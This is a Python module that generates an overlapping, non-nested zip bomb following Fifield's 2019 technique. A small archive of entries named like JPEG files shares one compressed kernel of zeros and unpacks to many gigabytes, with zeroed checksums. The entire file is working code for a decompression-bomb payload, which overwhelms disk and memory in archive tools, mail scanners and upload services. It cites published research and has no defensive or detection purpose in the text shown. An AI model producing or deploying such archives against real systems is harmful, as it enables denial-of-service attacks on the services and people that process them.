"""A zip bomb without nesting: hundreds of entries that share one kernel of compressed zeros.

As described by D. Fifield ("A better zip bomb", WOOT 2019): each entry quotes the local header of the next one as an
uncompressed deflate block, so that it reads all later headers and then the kernel.
"""

import struct
import zlib

KERNEL_MEGABYTES = 8


def overlapping_zip(entries: int) -> bytes:
    """Returns some kilobytes that unpack to `entries` times eight megabytes, with checksums of zero."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    kernel = b"".join(packer.compress(b"\0" * 1_000_000) for _ in range(KERNEL_MEGABYTES)) + packer.flush()
    data, packed, size = kernel, len(kernel), KERNEL_MEGABYTES * 1_000_000
    heads: list[tuple[bytes, int, int]] = []
    for number in reversed(range(entries)):
        name = f"{number:04}.jpg".encode()
        local = _local(name, packed, size)
        heads.insert(0, (name, packed, size))
        data = local + data
        if number:  # the previous entry quotes this header
            data = b"\0" + struct.pack("<HH", len(local), len(local) ^ 0xFFFF) + data
            packed, size = len(data), size + len(local)
    return data + _directory(heads, len(data))


def _local(name: bytes, packed: int, size: int) -> bytes:
    return struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, 0, packed, size, len(name), 0) + name


def _directory(heads: list[tuple[bytes, int, int]], start: int) -> bytes:
    entries, offset = b"", 0
    for name, packed, size in heads:
        entries += struct.pack(
            "<IHHHHHHIIIHHHHHII",
            *(0x02014B50, 20, 20, 0, 8, 0, 0x21, 0, packed, size, len(name), 0, 0, 0, 0, 0, offset),
        )
        entries += name
        offset += 30 + len(name) + 5
    return entries + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(heads), len(heads), len(entries), start, 0)
